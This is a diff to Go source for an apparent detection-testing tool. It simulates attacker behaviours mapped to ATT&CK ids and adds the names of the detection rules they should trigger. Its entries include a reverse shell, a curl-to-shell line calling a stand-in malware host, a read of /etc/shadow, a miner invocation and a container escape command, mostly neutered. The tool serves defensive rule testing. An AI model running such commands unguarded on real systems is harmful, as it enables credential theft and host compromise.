@@ -27,6 +27,7 @@ type Behaviour struct {
 	Name      string
 	What      string // what it does, one sentence
 	Technique string // ATT&CK id
+	Rule      string // of the default pack, that it makes fire
 	Root      bool   // works as root only
 	run       func(ctx context.Context, e *env) error
 }
@@ -44,28 +45,28 @@ const Inner = "inner"
 // All returns every behaviour, in the order they are run.
 func All() []Behaviour {
 	return []Behaviour{
-		{"reverse-shell", "bash opens an interactive shell over TCP to a listener on loopback", "T1059.004", false, reverseShell},
-		{"fileless-exec", "runs a program from an anonymous memory file", "T1620", false, memfdExec},
-		{"deleted-exec", "runs a program whose file is already deleted", "T1070.004", false, deletedExec},
-		{"tmp-exec", "runs a program that was just written under /tmp", "T1059", false, copiedExec("/tmp", "updater")},
-		{"shm-exec", "runs a program that was just written under /dev/shm", "T1059", false, copiedExec("/dev/shm", "kworkerd")},
-		{"miner", "starts a program with the arguments of a cryptocurrency miner", "T1496", false, fakeTool("xmrig", "-o", "stratum+tcp://pool.example.test:3333", "-u", "wallet")},
-		{"download-and-run", "a shell command line that pipes a download into a shell (the download does not run)", "T1105", false, shell("true || curl -s http://malware.example.test/x.sh | sh")},
-		{"decoded-shell", "pipes a base64-decoded command into a shell", "T1140", false, shell("echo dHJ1ZQ== | base64 -d | sh")},
-		{"webshell", "a process named like a web server starts a shell", "T1505.003", false, webshell},
-		{"network-scan", "starts a program named like a network scanner", "T1046", false, fakeTool("nmap", "-sS", "127.0.0.0/30")},
-		{"clear-history", "empties a shell's history file", "T1070.003", false, clearHistory},
-		{"authorized-keys", "adds a key to an authorized_keys file", "T1098.004", false, authorizedKeys},
-		{"setuid", "sets the setuid bit on a copy of a shell", "T1548.001", false, setuid},
-		{"read-shadow", "cat reads /etc/shadow", "T1003.008", true, command("cat", "/etc/shadow")},
-		{"cron", "writes a job into /etc/cron.d (commented out)", "T1053.003", true, cron},
-		{"preload", "opens /etc/ld.so.preload for writing and leaves it as it is", "T1574.006", true, touchOpen("/etc/ld.so.preload")},
-		{"core-pattern", "opens /proc/sys/kernel/core_pattern for writing and leaves it as it is", "T1611", true, touchOpen("/proc/sys/kernel/core_pattern")},
-		{"binary-directory", "writes a file into /usr/local/bin", "T1554", true, binaryDirectory},
-		{"kernel-module", "starts a program named insmod on a module that does not exist", "T1547.006", false, fakeTool("insmod", "/tmp/rootkit.ko")},
-		{"host-namespace", "starts a program named nsenter with the arguments of an escape to the host", "T1611", false, fakeTool("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/sh")},
-		{"metadata-service", "connects to the cloud metadata address, in a network namespace of its own", "T1552.005", true, inner("metadata-service", unix.CLONE_NEWNET)},
-		{"service-account-token", "reads a Kubernetes service account token, in a mount namespace of its own", "T1528", true, inner("service-account-token", unix.CLONE_NEWNS)},
+		{"reverse-shell", "bash opens an interactive shell over TCP to a listener on loopback", "T1059.004", "Reverse shell command line", false, reverseShell},
+		{"fileless-exec", "runs a program from an anonymous memory file", "T1620", "Program run from memory", false, memfdExec},
+		{"deleted-exec", "runs a program whose file is already deleted", "T1070.004", "Deleted program run", false, deletedExec},
+		{"tmp-exec", "runs a program that was just written under /tmp", "T1059", "Program run from a temporary folder", false, copiedExec("/tmp", "updater")},
+		{"shm-exec", "runs a program that was just written under /dev/shm", "T1059", "Program run from shared memory", false, copiedExec("/dev/shm", "kworkerd")},
+		{"miner", "starts a program with the arguments of a cryptocurrency miner", "T1496", "Cryptocurrency miner run", false, fakeTool("xmrig", "-o", "stratum+tcp://pool.example.test:3333", "-u", "wallet")},
+		{"download-and-run", "a shell command line that pipes a download into a shell (the download does not run)", "T1105", "Download piped into a shell", false, shell("true || curl -s http://malware.example.test/x.sh | sh")},
+		{"decoded-shell", "pipes a base64-decoded command into a shell", "T1140", "Base64 decoded into a shell", false, shell("echo dHJ1ZQ== | base64 -d | sh")},
+		{"webshell", "a process named like a web server starts a shell", "T1505.003", "Web server starts a shell", false, webshell},
+		{"network-scan", "starts a program named like a network scanner", "T1046", "Network scanner run", false, fakeTool("nmap", "-sS", "127.0.0.0/30")},
+		{"clear-history", "empties a shell's history file", "T1070.003", "Shell history cleared", false, clearHistory},
+		{"authorized-keys", "adds a key to an authorized_keys file", "T1098.004", "SSH authorized keys changed", false, authorizedKeys},
+		{"setuid", "sets the setuid bit on a copy of a shell", "T1548.001", "Setuid bit set", false, setuid},
+		{"read-shadow", "cat reads /etc/shadow", "T1003.008", "Password hashes read", true, command("cat", "/etc/shadow")},
+		{"cron", "writes a job into /etc/cron.d (commented out)", "T1053.003", "Scheduled task written", true, cron},
+		{"preload", "opens /etc/ld.so.preload for writing and leaves it as it is", "T1574.006", "Dynamic linker preload written", true, touchOpen("/etc/ld.so.preload")},
+		{"core-pattern", "opens /proc/sys/kernel/core_pattern for writing and leaves it as it is", "T1611", "Kernel interface written for an escape", true, touchOpen("/proc/sys/kernel/core_pattern")},
+		{"binary-directory", "writes a file into /usr/local/bin", "T1554", "Program folder written", true, binaryDirectory},
+		{"kernel-module", "starts a program named insmod on a module that does not exist", "T1547.006", "Kernel module tool run", false, fakeTool("insmod", "/tmp/rootkit.ko")},
+		{"host-namespace", "starts a program named nsenter with the arguments of an escape to the host", "T1611", "Host namespaces entered", false, fakeTool("nsenter", "-t", "1", "-m", "-u", "-i", "-n", "-p", "--", "/bin/sh")},
+		{"metadata-service", "connects to the cloud metadata address, in a network namespace of its own", "T1552.005", "Cloud metadata service contacted", true, inner("metadata-service", unix.CLONE_NEWNET)},
+		{"service-account-token", "reads a Kubernetes service account token, in a mount namespace of its own", "T1528", "Service account token read", true, inner("service-account-token", unix.CLONE_NEWNS)},
 	}
 }
 
